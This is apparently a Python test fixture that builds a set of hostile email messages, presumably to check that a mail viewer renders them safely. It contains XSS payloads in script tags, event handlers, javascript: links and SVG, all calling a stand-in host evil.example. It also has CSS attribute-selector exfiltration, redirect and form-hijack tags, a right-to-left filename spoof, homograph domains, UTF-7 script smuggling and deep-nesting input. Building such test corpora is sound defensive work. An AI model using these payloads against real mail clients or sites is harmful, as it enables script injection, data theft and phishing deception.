"""Messages that would run, load or change something if anybody showed them as they want to be shown."""

_HTML = "MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n"
_PLAIN = "Content-Type: text/plain; charset=utf-8\n"
_RUN = "window.ran=1;alert(1);fetch('http://evil.example/')"
_LOOKALIKE = "\u0430\u0440\u0440\u04cf\u0435"
_TEXTS = {
    "script": f"Subject: <script>{_RUN}</script>\n{_HTML}\n<script>{_RUN}</script><p>hi</p>",
    "handlers": f'From: "<img src=x onerror={_RUN}>" <a@evil.example>\n{_HTML}\n'
    f'<img src=http://evil.example/x onerror="{_RUN}"><body onload="{_RUN}">'
    f'<details open ontoggle="{_RUN}"><input autofocus onfocus="{_RUN}">',
    "styles": f"Subject: x\n{_HTML}\n<style>@import url(http://evil.example/a.css); input[value^=a]"
    "{background:url(http://evil.example/a)} *{display:none}</style>"
    "<p style='background:url(//evil.example/b)'>x</p><link rel=stylesheet href=http://evil.example/c.css>",
    "svg": f"Subject: x\n{_HTML}\n<svg onload='{_RUN}'><script>{_RUN}</script><image href=http://evil.example/i />"
    f"<foreignObject><iframe srcdoc='<script>{_RUN}</script>'></iframe></foreignObject></svg>",
    "links": f"Subject: x\n{_HTML}\n<a href='javascript:{_RUN}'>x</a><a href=' JaVaScRiPt:{_RUN}'>y</a>"
    "<base href=http://evil.example/><meta http-equiv=refresh content='0;url=http://evil.example/'>"
    "<form action=http://evil.example/><button>",
    "malformed": f"Subject: x\n{_HTML}\n</pre></section></article></main><!--><img src=x onerror={_RUN}>--!>"
    "<![CDATA[<p>]]><plaintext>",
    "escapes": f"Subject: x\n{_PLAIN}\n</pre><script>{_RUN}</script>&lt;b&gt; &amp;amp; &#60;script&#62; \"'` ${{x}}",
    "bidi": f"Subject: invoice\u202efdp.exe\n{_PLAIN}\n\u202eevil\u2066 \u2069 \u200fabc\u200b \u00ad\ufeff",
    "homographs": f"From: service@{_LOOKALIKE}.example\nSubject: {_LOOKALIKE}\n{_PLAIN}\n"
    f"http://{_LOOKALIKE}.example/ http://xn--pple-43d.example/",
    "controls": f"Subject: x\n{_PLAIN}\n\x00\x01\x1b[2J\x7f\x80\x9f\r\rx\r\n\t\x0b\x0c\u2028\u2029\ufffe",
    "first line end": f"Subject: x\n{_PLAIN}\n\n\n\nx",
    "deep": f"Subject: x\n{_HTML}\n" + "<div><table><b>" * 30_000,
    "zalgo": f"Subject: x\n{_PLAIN}\ne" + "\u0301" * 3_000 + "\U0001f468\u200d\U0001f469",
}
HOSTILE = {name: text.encode() for name, text in _TEXTS.items()} | {
    "surrogates": b"Subject: \xed\xa0\x80\n\n\xed\xa0\x80\xff\xfe\xf4\x90\x80\x80",
    "utf-7": b"Subject: x\nContent-Type: text/html; charset=utf-7\n\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "utf-16": b"Subject: x\nContent-Type: text/html; charset=utf-16\n\n" + f"<script>{_RUN}</script>".encode("utf-16"),
    "noise": bytes(range(256)) * 20,
}
